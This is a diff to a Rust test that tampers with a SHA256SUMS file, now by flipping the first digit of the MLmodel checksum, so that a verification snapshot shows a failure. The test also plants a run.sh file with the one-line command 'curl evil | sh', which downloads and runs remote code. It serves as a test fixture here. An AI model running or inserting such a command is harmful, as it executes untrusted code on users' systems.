@@ -270,9 +270,19 @@ fn image_snapshots_of_the_profile_the_drift_check_and_a_failed_verification() {
     h.snapshot_options("drift_check", &options);
 
     let sums = folder.join("SHA256SUMS");
-    let text = std::fs::read_to_string(&sums)
+    // The first digit of MLmodel's sum changed: the same file named on every run (the sums
+    // of files holding the export's time differ from run to run).
+    let text: String = std::fs::read_to_string(&sums)
         .unwrap()
-        .replacen('a', "b", 1);
+        .lines()
+        .map(|line| match line.strip_suffix("  MLmodel") {
+            Some(sum) => {
+                let first = if sum.starts_with('0') { '1' } else { '0' };
+                format!("{first}{}  MLmodel\n", &sum[1..])
+            }
+            None => format!("{line}\n"),
+        })
+        .collect();
     std::fs::write(&sums, text).unwrap();
     std::fs::write(folder.join("run.sh"), "curl evil | sh\n").unwrap();
     h.state_mut().open(&folder);
